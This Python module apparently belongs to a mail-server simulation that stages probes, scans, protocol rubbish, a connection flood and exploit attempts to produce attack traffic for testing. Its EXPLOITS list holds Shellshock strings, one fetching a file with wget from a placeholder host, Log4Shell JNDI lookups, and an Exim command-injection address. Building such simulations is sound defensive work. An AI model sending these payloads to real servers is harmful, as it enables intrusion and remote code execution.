"""Those who do not guess: probes, scanners, rubbish and exploits."""

from world import clients, net, tools
from world.accounts import address

HTTP = b"GET / HTTP/1.1\r\nHost: mail.example.org\r\nUser-Agent: scan\r\n\r\n"
SOCKS = b"\x04\x01\x00\x19\x01\x02\x03\x04\x00\r\n\x05\x01\x00\r\n"
TLS = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"A" * 300 + b"\r\n"
EXPLOITS = (
    ("() { :;}; /bin/sh -c 'id'", "helo"),
    ("${jndi:ldap://198.51.100.1:1389/a}", "helo"),
    ("root+${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22id\\x22}}@example.org", "recipient"),
    ("() { :; }; wget http://198.51.100.1/x", "sender"),
    ("${jndi:dns://198.51.100.1/x}", "user"),
)


def probes(cast):
    """Each of them alone is no login attempt at all."""
    _relay_and_recipients(cast)
    _rubbish(cast)
    for number, (text, place) in enumerate(EXPLOITS):
        source = net.attacker(50 + number)
        cast.attacker(source, f"exploit in {place}")
        cast.at(6, source, exploit, text, place)
    cast.attacker("198.51.100.206", "nmap")
    cast.at(5, "198.51.100.206", tools.nmap, "-sT", "-sV", "-p", "25,110,143,465,587,993,995,4190", net.MAIL)


def _relay_and_recipients(cast):
    for number, server in ((30, "postfix"), (31, "exim")):
        source = net.attacker(number)
        cast.attacker(source, "relay probe")
        for turn in range(8):
            cast.at(5 + turn * 3, source, clients.send_mail, f"t{turn}@probe.example",
                    f"t{turn}@victim.example", server=server)
    for number, server in ((32, "postfix"), (33, "exim")):
        source = net.attacker(number)
        cast.attacker(source, "recipient harvest")
        for turn in range(6):
            names = [address(f"guess{turn}x{count}") for count in range(6)]
            cast.at(5 + turn * 4, source, clients.send_mail, "list@harvest.example", names, server=server)


def _rubbish(cast):
    rows = (
        (34, "HTTP on SMTP", 25, HTTP, {}),
        (35, "HTTP on SMTP", 25, HTTP, {"server": "exim"}),
        (36, "HTTP on submission", 587, HTTP, {}),
        (37, "SOCKS on SMTP", 25, SOCKS, {}),
        (38, "TLS rubbish on SMTP", 25, TLS, {"greeting": False}),
        (39, "early talker", 25, b"EHLO early.example\r\n", {"server": "postscreen", "greeting": False}),
    )
    for number, kind, port, data, options in rows:
        source = net.attacker(number)
        cast.attacker(source, kind)
        for turn in range(3):
            cast.at(5 + turn * 6, source, clients.raw, port, data, **options)
    source = net.attacker(40)
    cast.attacker(source, "connects and leaves everywhere")
    for turn in range(6):
        for place, port in enumerate((25, 110, 143, 465, 587, 993, 995, 4190)):
            cast.at(5 + turn * 6 + place * 0.4, source, clients.connect, port)
    source = net.attacker(41)
    cast.attacker(source, "connection flood")
    for turn in range(400):
        cast.at(5 + turn * 0.1, source, clients.connect, 25)


def exploit(source, text, place):
    """Sends an attack string where it belongs."""
    if place == "user":
        return clients.imap_login(source, text, "x")
    helo = text if place == "helo" else "client.example"
    sender = text if place == "sender" else "a@probe.example"
    recipient = text if place == "recipient" else address("alice")
    # A HELO name is logged once a recipient is refused.
    return clients.smtp_raw(source, f"MAIL FROM:<{sender}>", f"RCPT TO:<{recipient}>", helo=helo)
